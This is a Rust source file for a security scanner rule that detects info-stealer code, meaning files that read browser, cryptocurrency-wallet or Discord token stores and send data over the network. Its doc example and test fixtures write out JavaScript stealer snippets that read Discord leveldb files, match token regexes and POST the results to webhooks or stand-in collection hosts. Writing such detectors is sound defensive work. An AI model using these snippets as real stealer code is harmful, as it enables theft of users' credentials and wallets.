use std::collections::BTreeSet;

use palisade_diagnostics::{Finding, Severity};

use crate::classify;
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

/// Stores whose only use in third-party code is theft.
const STEALER_TARGETS: &[&str] = &["browser-profile", "wallet", "discord"];

declare_rule! {
    /// ## What it does
    /// Finds files that go after credential stores and talk to the network:
    /// browser login, cookie and local-storage databases, cryptocurrency
    /// wallets, Discord token stores, or token-shaped regular expressions —
    /// in the same file as a network call, a webhook or a collection endpoint.
    /// At install, SSH keys, cloud and registry credentials count too.
    ///
    /// ## Why is this bad?
    /// This is the shape of an info-stealer even when the value cannot be
    /// followed from the file read to the request (callbacks, loops over path
    /// lists, obfuscated glue).
    ///
    /// ## Example
    /// ```js
    /// const dir = path.join(appdata, 'discord', 'Local Storage', 'leveldb');
    /// // ... read *.ldb, match /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/ ...
    /// fetch(webhook, { method: 'POST', body: JSON.stringify({ content: token }) });
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1555.003, T1528 (Steal Application Access Token).
    CredentialStealer {
        id: "exfil/credential-stealer",
        severity: Critical,
        status: Stable,
        summary: "A file reads credential stores (browser, wallet, Discord tokens) and talks to the network",
    }
}

impl Rule for CredentialStealer {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let files: BTreeSet<&str> = ctx
            .facts
            .paths
            .iter()
            .map(|p| p.at.location.path.as_str())
            .chain(
                ctx.facts
                    .other
                    .iter()
                    .filter(|o| o.kind == "token-pattern")
                    .map(|o| o.at.location.path.as_str()),
            )
            .collect();
        for file in files {
            let install = ctx
                .code_files
                .iter()
                .any(|c| c.path == file && c.install_time);
            let targets: BTreeSet<&str> = ctx
                .facts
                .paths
                .iter()
                .filter(|p| p.at.location.path == file)
                .filter_map(|p| classify::sensitive_path(&p.path))
                .filter(|(cat, secret)| {
                    *secret && (STEALER_TARGETS.contains(cat) || (install && *cat != "npmrc"))
                })
                .map(|(cat, _)| cat)
                .chain(
                    ctx.facts
                        .other
                        .iter()
                        .filter(|o| o.kind == "token-pattern" && o.at.location.path == file)
                        .map(|_| "token-pattern"),
                )
                .collect();
            if targets.is_empty() {
                continue;
            }
            // A URL in a file that loads an HTTP client counts as a request
            // even when the call itself hides behind obfuscator helpers.
            let loads_client = ctx.facts.imports.iter().any(|i| {
                i.at.location.path == file
                    && i.module.as_deref().is_some_and(|m| {
                        crate::checkers::js::is_network_api(m)
                            || matches!(m, "http" | "https" | "net" | "tls" | "undici")
                    })
            });
            let net = ctx.facts.network.iter().find(|n| {
                n.at.location.path == file
                    && (n.api.is_some()
                        || n.collector.is_some()
                        || (loads_client && n.destination.is_some()))
                    && !n.host_kind.is_some_and(|k| {
                        matches!(
                            k,
                            palisade_diagnostics::HostKind::Loopback
                                | palisade_diagnostics::HostKind::PrivateIp
                        )
                    })
            });
            let Some(net) = net else { continue };
            let what: Vec<&str> = targets.into_iter().collect();
            let via = net
                .api
                .clone()
                .unwrap_or_else(|| net.host.clone().unwrap_or_default());
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        Severity::Critical,
                        format!(
                            "`{file}` goes after {} and sends over the network (`{via}`)",
                            what.join(", ")
                        ),
                    ),
                    &net.at.location,
                )
                .at_install_time(install)
                .with_capability("exfiltration"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&CredentialStealer::META).test(
            &[
                Case::Js(
                    "const dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nfs.readdirSync(dir).forEach((f) => {\n  const m = fs.readFileSync(dir + '/' + f, 'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/);\n  if (m) fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: m[0] });\n});",
                ),
                Case::Js("const wallets = ['Exodus/exodus.wallet', 'Electrum/wallets'];\nrequire('axios').post('https://collect.invalid/w', { wallets });"),
                Case::Js("const fetch = require('node-fetch');\nconst h = { go: (f, u, o) => f(u, o) };\nconst dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nconst re = /[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g;\nconst url = 'https://grab.invalid/t';\nh.go(fetch, url, { method: 'POST', body: dir });"),
            ],
            &[
                Case::Js("const wallets = ['Exodus/exodus.wallet'];\nconsole.log(wallets);"),
                Case::Js("const fetch = require('node-fetch');\nconst docs = 'https://docs.example.invalid/tokens';\nconst re = /[A-Za-z0-9]{32}/;\nmodule.exports = (s) => re.test(s);"),
                Case::Js("const cfg = fs.readFileSync(home + '/.aws/credentials');\nfetch('https://sts.amazonaws.invalid/');"),
            ],
        );
    }
}
